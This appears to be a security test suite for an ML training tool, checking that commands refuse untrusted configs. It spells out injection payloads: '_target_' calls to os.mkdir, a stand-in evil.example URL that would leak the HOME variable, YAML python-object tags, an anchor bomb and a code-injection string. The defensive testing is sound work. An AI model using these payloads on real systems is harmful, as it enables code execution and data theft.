"""What a stranger's config can't make a command do: a table of payloads and commands."""

from __future__ import annotations

import ast
import json
import os
import re

import pytest
from omegaconf import OmegaConf
from typer.testing import CliRunner

from finesweep.commands import api
from finesweep.commands.cli import app
from finesweep.commands.evaluate.command import evaluate
from finesweep.commands.resume import resume
from finesweep.commands.train import launch
from finesweep.commands.validate import validate
from finesweep.errors import FinesweepError
from finesweep.runs.reproduce import reproduce

MARK = "ran"
NODE = f"{{_target_: os.mkdir, path: {MARK}}}"
MKDIR = {"_target_": "os.mkdir", "path": MARK}
SOURCE = {"_target_": "finesweep.data.sources.torch_dataset"}
PYTHON = "finesweep.data.sources.python"

BY_POSITION = {"_target_": PYTHON, "_args_": ["os.mkdir"], "path": MARK}
SQL = {"_target_": "finesweep.data.sources.sql", "url": "postgresql://evil/x", "train": "select 1"}

# Name -> key, value, and what is asked for.
PAYLOADS = {
    "target": ("data.source", MKDIR, "os.mkdir"),
    "nested target": ("data.source", {**SOURCE, "train": MKDIR}, "os.mkdir"),
    "a target in a list": ("data.source", {**SOURCE, "train": [MKDIR]}, "os.mkdir"),
    "function by name": ("data.source", {"_target_": PYTHON, "function": "os.mkdir"}, "function"),
    "function by position": ("data.source", BY_POSITION, "_args_"),
    "function of a file": ("data.source", {"_target_": PYTHON, "_args_": ["evil.py:read"]}, "_args_"),
    "nested positions": ("data.source", {**SOURCE, "train": BY_POSITION}, "_args_"),
    "a resolver's node": ("data.source", {**SOURCE, "train": "${oc.create:'" + NODE + "'}"}, "os.mkdir"),
    "a resolver's text": ("data.source", {**SOURCE, "train": "${oc.decode:'" + NODE + "'}"}, "os.mkdir"),
    "a peft method": ("peft", MKDIR, "os.mkdir"),
    "a tracker": ("tracker", MKDIR, "os.mkdir"),
    "the environment": ("data.source.train", "${oc.env:HOME}/rows.csv", "oc.env"),
    "the environment, hidden": ("data.source.train", "${oc.${hidden}:HOME}/rows.csv", "oc.env"),
    "a model's name": ("model.name", "https://evil.example/${oc.env:HOME}", "oc.env"),
    "an address": ("model.name", "https://evil.example/model", "url"),
    "a database": ("data.source", SQL, "url"),
    "code of a model": ("tokenizer.trust_remote_code", True, "trust_remote_code"),
}  # fmt: skip

COMMANDS = {
    "train": lambda folder: launch(["--config-path", str(folder), "--config-name", "config"]),
    "python": lambda folder: api.run(["--config-path", str(folder), "--config-name", "config"]),
    "validate": lambda folder: validate(["--config-path", str(folder), "--config-name", "config"]),
    "reproduce": reproduce,
    "evaluate": lambda folder: evaluate(folder, [], as_json=True),
    "resume": lambda folder: resume(_cut_off(folder)),
}


def _cut_off(folder):
    status = (folder / "status.json").read_text()
    (folder / "status.json").write_text(status.replace('"complete"', '"interrupted"'))
    return folder


def _put(folder, key, value):
    config = OmegaConf.load(folder / "config.yaml")
    OmegaConf.update(config, key, value, merge=False, force_add=True)
    config.hidden = "env"
    OmegaConf.save(config, folder / "config.yaml")


def _refused(command, folder, capsys) -> str:
    with pytest.raises((FinesweepError, SystemExit)) as refusal:
        command(folder)
    assert getattr(refusal.value, "code", 2) != 0
    return str(refusal.value) + capsys.readouterr().err


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.often(
    "train-target",
    "train-function by name",
    "train-a target in a list",
    "evaluate-target",
    "resume-target",
    "reproduce-function by name",
)
def test_nothing_foreign_is_called(command, payload, received, tmp_path, capsys):
    key, value, asked = PAYLOADS[payload]
    (tmp_path / "evil.py").write_text(f"import os\nos.mkdir({MARK!r})\ndef read(): return []\n")
    _put(received, key, value)
    said = _refused(COMMANDS[command], received, capsys)
    assert f"--trust {asked}" in said
    assert not os.path.exists(MARK)


@pytest.mark.parametrize("command", COMMANDS)
def test_what_was_judged_a_text_stays_a_text(command, received, capsys):
    """An interpolation that is escaped is a text once resolved, and a node when it is resolved again."""
    _put(received, "data.source", {**SOURCE, "train": r"\${oc.create:'" + NODE + "'}"})
    _refused(COMMANDS[command], received, capsys)
    assert not os.path.exists(MARK)


SPELLINGS = [
    ["--config-path", "{}", "--config-name", "config"],
    ["--config-path", "{}", "--config-name", "config.yaml"],
    ["--config-p", "{}", "--config-n", "config"],
    ["--config-p={}", "-cn", "config"],
    ["-cp", "{}", "-cn=config"],
]
SEAMS = ["callbacks", "launcher", "sweeper", "logging", "environment", "searchpath"]


@pytest.mark.filterwarnings(r"ignore:\s*'hydra/.* is validated against ConfigStore")  # of such a file
@pytest.mark.parametrize(
    ("seam", "options"),
    [*((seam, SPELLINGS[0]) for seam in SEAMS), *(("callbacks", words) for words in SPELLINGS[1:])],
)
@pytest.mark.often(every=3)
def test_hydra_is_not_steered(seam, options, received, tmp_path, monkeypatch, capsys):
    (tmp_path / "evil.py").write_text(f"import os\nos.mkdir({MARK!r})\n")
    monkeypatch.syspath_prepend(tmp_path)
    if seam in ("launcher", "sweeper"):  # the config itself is untouched
        place = received / "hydra" / seam
        place.mkdir(parents=True)
        for name in ("basic", "finesweep"):  # a search has finesweep's own sweeper
            (place / f"{name}.yaml").write_text("_target_: evil.run\n")
    else:
        settings = {
            "callbacks": {"hydra.callbacks": {"evil": MKDIR}},
            "logging": {"hydra.job_logging.handlers": {"evil": {"()": "os.mkdir", "path": MARK}}},
            "environment": {"hydra.job.env_set": {"PYTHONSTARTUP": "evil.py"}},
            "searchpath": {"hydra.searchpath": ["file:///tmp"]},
        }[seam]
        for key, value in settings.items():
            _put(received, key, value)
    words = [word.format(received) for word in options]
    for more in ([], ["-m", "seed=1,2"]):
        said = _refused(launch, [*words, *more], capsys)
        # finesweep's own sweeper, which `-m` takes, is known to Hydra: a file of its name is refused by it
        assert "--trust" in said or "'hydra/sweeper/finesweep' is validated" in said
        assert not os.path.exists(MARK)


def test_a_pickled_config_is_not_run_again(received, capsys):
    assert "--trust hydra" in _refused(launch, ["--experimental-r", str(received / "x.pickle")], capsys)


def test_what_finesweep_saved_runs_again(received):
    launch(["--config-p", str(received), "--config-n", "config", "seed=1"])
    validate(["--config-path", str(received), "--config-name", "config"])


def test_what_the_user_vouches_for_is_resolved(received, monkeypatch):
    monkeypatch.setenv("PLACE", OmegaConf.load(received / "config.yaml").data.source.train)
    _put(received, "data.source.train", "${oc.env:PLACE}")
    validate(["--config-path", str(received), "--config-name", "config", "--trust", "oc.env"])


@pytest.mark.parametrize("command", ["reproduce", "evaluate", "resume"])
@pytest.mark.parametrize(
    "content", ["x: !!python/object/apply:os.mkdir [ran]\n", "a: &a [1]\nb: [*a\n", "bomb"]
)
def test_a_file_that_is_no_plain_yaml_gives_a_message(command, content, received, capsys):
    if content == "bomb":
        lines = ["a0: &a0 [x, x]", *(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 60))]
        content = "\n".join(lines) + "\n"
    (received / "config.yaml").write_text(content)
    said = _refused(COMMANDS[command], received, capsys)
    assert "config.yaml" in said
    assert not os.path.exists(MARK)


LINKS = {"texts": "{0}{0}", "lists": ["{0}", "{0}"], "nodes": {"x": "{0}", "y": "{0}"}}


@pytest.mark.parametrize(
    ("command", "kind"),
    [*((name, "texts") for name in COMMANDS), ("train", "lists"), ("train", "nodes"), ("resume", "lists")],
)
@pytest.mark.often("train-*", "reproduce-*")
def test_interpolations_that_double_thirty_times_are_refused(command, kind, received, capsys):
    text = (received / "config.yaml").read_text()
    for number in range(30):
        text += f"a{number}: {json.dumps(LINKS[kind])}\n".replace("{0}", f"${{a{number + 1}}}")
    (received / "config.yaml").write_text(f"{text}a30: text\n")
    assert "repeat each other without end" in _refused(COMMANDS[command], received, capsys)


def test_a_product_of_texts_is_refused(received, capsys):
    _put(received, "trainer.max_steps", "${finesweep.product:text,10000000000}")
    assert "aren't two numbers" in _refused(COMMANDS["validate"], received, capsys)


@pytest.mark.parametrize("command", ["reproduce", "evaluate", "validate"])
def test_a_data_set_s_card_leads_nowhere(command, received, tmp_path, capsys):
    place = tmp_path / "rows"
    place.mkdir()
    (place / "README.md").write_text("---\nconfigs:\n- data_files: http://127.0.0.1:9/rows.csv\n---\n")
    _put(received, "data.source", {"_target_": "finesweep.data.sources.hub", "path": str(place)})
    assert "--trust url" in _refused(COMMANDS[command], received, capsys)


def test_a_package_is_not_imported_to_search_it_for_choices(received, tmp_path, monkeypatch, capsys):
    (tmp_path / "evil_choices").mkdir()
    (tmp_path / "evil_choices" / "__init__.py").write_text(f"import os\nos.mkdir({MARK!r})\n")
    monkeypatch.syspath_prepend(tmp_path)
    _put(received, "hydra.searchpath", ["pkg://evil_choices"])
    assert "--trust hydra" in _refused(COMMANDS["train"], received, capsys)
    assert not os.path.exists(MARK)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.often("target", "the environment")
def test_to_use_a_model_calls_nothing_and_reads_no_environment(payload, received, tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", "/canary-of-the-home")
    key, value, _ = PAYLOADS[payload]
    (tmp_path / "evil.py").write_text(f"import os\nos.mkdir({MARK!r})\ndef read(): return []\n")
    _put(received, key, value)
    for words in (
        ["predict", str(received), "--text", "a text"],
        ["export", str(received), "out", "--to", "adapter"],
    ):
        done = CliRunner().invoke(app, words)
        assert done.exception is None or isinstance(done.exception, SystemExit), repr(done.exception)
    assert not os.path.exists(MARK)
    written = [file.read_bytes() for file in (tmp_path / "out").rglob("*") if file.is_file()]
    assert not [content for content in written if b"canary-of-the-home" in content]


def test_a_card_s_snippet_runs_nothing_of_the_config_s(received, tmp_path):
    evil = f'x", **__import__("os").mkdir("{MARK}")) #'
    for key in ("model.name", "model.revision", "tokenizer.name"):
        _put(received, key, f"a/{evil}" if key.endswith("name") else evil)
    done = CliRunner().invoke(app, ["export", str(received), "out", "--to", "adapter"])
    assert done.exit_code == 0, done.output
    [code] = re.findall(r"```python\n(.*?)```", (tmp_path / "out" / "README.md").read_text(), re.DOTALL)
    names = {node.id for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Name)}
    assert "__import__" not in names


def test_settings_of_libraries_in_a_stranger_s_folder_are_not_read(received, tmp_path, capsys):
    home = tmp_path / "home"
    (home / "wandb").mkdir(parents=True)
    (home / "wandb" / "settings").write_text("[default]\nbase_url = http://evil.example\n")
    record = json.loads((received / "provenance.json").read_text())
    (received / "provenance.json").write_text(json.dumps({**record, "called_in": str(home)}))
    assert "would read its settings" in _refused(COMMANDS["resume"], received, capsys)
